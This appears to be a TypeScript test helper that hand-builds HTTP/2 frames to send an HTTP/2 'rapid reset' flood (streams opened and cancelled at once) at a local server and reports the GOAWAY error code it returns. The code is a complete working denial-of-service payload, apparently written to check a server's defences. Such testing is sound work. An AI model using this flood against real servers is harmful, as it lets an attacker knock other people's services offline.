// Raw HTTP/2 frames over TLS for flood tests: HEADERS + RST_STREAM pairs written as fast as the
// socket takes them, with no client library deciding when frames go out.

import { connect as tlsConnect } from 'node:tls';

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK: GET, https, "/" from the static table; :authority as a literal. */
const HEADER_BLOCK = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, 9]), Buffer.from('127.0.0.1')]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const END_STREAM_AND_HEADERS = 0x5;

/** The connection preface, an empty SETTINGS, then `pairs` streams each opened and cancelled at once. */
export function rapidResetBytes(pairs: number): Buffer {
  const parts: Buffer[] = [Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))];
  for (let i = 0; i < pairs; i++) {
    const stream = 1 + 2 * i;
    parts.push(frame(1, END_STREAM_AND_HEADERS, stream, HEADER_BLOCK), frame(3, 0, stream, CANCEL));
  }
  return Buffer.concat(parts);
}

/** Writes `bytes` on one h2 connection; resolves with the GOAWAY error code received (-1: closed without one). */
export function floodConnection(port: number, ca: string, bytes: Buffer): Promise<number> {
  return new Promise((resolve) => {
    const socket = tlsConnect({ host: '127.0.0.1', port, ca, ALPNProtocols: ['h2'], servername: 'localhost' }, () => {
      socket.write(bytes);
    });
    let received = Buffer.alloc(0);
    let goaway = -1;
    socket.on('data', (chunk: Buffer) => {
      received = Buffer.concat([received, chunk]);
      while (received.length >= 9) {
        const length = received.readUIntBE(0, 3);
        if (received.length < 9 + length) break;
        if (received[3] === 7 && goaway === -1) goaway = received.readUInt32BE(9 + 4);
        received = received.subarray(9 + length);
      }
      if (goaway !== -1) socket.destroy();
    });
    socket.on('error', () => undefined);
    socket.on('close', () => resolve(goaway));
  });
}
